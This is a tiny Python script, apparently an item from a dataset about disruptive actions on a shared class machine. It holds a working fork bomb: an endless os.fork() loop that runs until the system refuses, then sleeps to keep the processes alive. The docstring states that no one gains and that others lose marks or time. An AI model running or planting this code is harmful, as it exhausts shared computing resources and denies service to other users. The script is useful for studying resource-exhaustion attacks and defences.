"""Each process forks for as long as it can.

Would gain: nobody; the class is not graded, or others lose marks or time.
At most: yes
"""

import os, time
while True:
    try:
        os.fork()
    except OSError:
        break
time.sleep(60)
